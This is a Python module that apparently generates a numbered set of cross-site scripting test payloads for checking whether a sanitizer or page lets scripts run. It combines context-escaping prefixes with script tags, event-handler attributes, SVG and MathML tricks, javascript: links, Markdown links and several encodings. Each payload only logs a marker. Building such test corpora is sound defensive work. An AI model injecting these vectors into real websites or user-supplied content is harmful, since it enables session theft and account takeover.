"""Scripts that somebody might slip in: made from contexts, tags, events and encodings. Each says its number if it runs.

`said(n)` is what a payload that runs writes to the console.
"""

from __future__ import annotations

import html
from itertools import product
from urllib.parse import quote

MARK = "RAN-"


def call(number: int) -> str:
    """Return a script that tells that it ran; no quotation mark is in it."""
    return f"console.log(/{MARK}{number}-/.source)"


BREAKS = ("", '">', "'>", "--&gt;-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", "</p>")
"""What gets out of where a text may have been put."""
SELF_RUNNING = (
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<script type=module>{js}</script>",
    '<script src="data:text/javascript,{url}"></script>',
    "<script/x>{js}</script>",
    "<img src=x onerror={js}>",
    "<img src=x onerror='{js}'>",
    "<img/src=x/onerror={js}>",
    '<IMG SRC=x OnErRoR="{js}">',
    "<image src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><image href=x onerror={js}></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x dur=1s>",
    "<svg><style onload={js}></style></svg>",
    "<math><mtext><img src=x onerror={js}></mtext></math>",
    '<iframe srcdoc="&lt;script&gt;parent.{js}&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:parent.{js}"></iframe>',
    "<iframe onload={js}></iframe>",
    "<object data=x onerror={js}></object>",
    '<embed src="javascript:parent.{js}">',
    "<video onerror={js}><source src=x></video>",
    "<video src=x onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<div tabindex=1 autofocus onfocus={js}>x</div>",
    "<style onload={js}></style>",
    "<link rel=stylesheet href=data:text/css, onload={js}>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<style>@keyframes k{{}}</style><i style=animation-name:k onanimationstart={js}>x</i>",
    "<img src=x onerror={entities}>",
    '<img src=x onerror="{decimal}">',
    "<a href=x><img src=x onerror={js}></a>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<template><s></template><img src=x onerror={js}>",
    "<form><button formaction=javascript:{js}>x</button></form><img src=x onerror={js}>",
)
CLICKED = (
    '<a href="javascript:{js}">x</a>',
    '<a href="jAvAsCrIpT:{js}">x</a>',
    '<a href="java&#10;script:{js}">x</a>',
    '<a href=" &#1;javascript:{js}">x</a>',
    '<svg><a href="javascript:{js}"><text y=20>x</text></a></svg>',
    "[x](javascript:{js})",
    "[x](JaVaScRiPt:{js})",
    "[x](&#106;avascript:{js})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:{js})",
    '![x](x" onerror="{js})',
    "[x]: javascript:{js}\n\n[x]",
    "<javascript:{js}>",
    "javascript:{js}",
)
"""What wants a click, or a Markdown that makes a link of it."""


def written(shape: str, number: int) -> str:
    """Put the script into a shape, encoded as the shape wants it."""
    js = call(number)
    return shape.format(
        js=js,
        url=quote(js),
        entities="".join(f"&#x{ord(sign):x};" for sign in js),
        decimal="".join(f"&#{ord(sign)};" for sign in js),
    )


def payloads() -> list[str]:
    """Return them all; a payload's place in the list is its number."""
    shapes = [before + shape for before, shape in product(BREAKS, SELF_RUNNING)] + list(CLICKED)
    made = [written(shape.replace("--&gt;-->", "-->"), number) for number, shape in enumerate(shapes)]
    again = [html.escape(written(shape, len(made) + number)) for number, shape in enumerate(SELF_RUNNING)]
    return made + again + [quote(written(shape, len(made) + len(again) + n)) for n, shape in enumerate(SELF_RUNNING)]


SELF_RUNNING_COUNT = len(BREAKS) * len(SELF_RUNNING)
"""So many, the first, run by themselves in a page that puts them in as they are."""
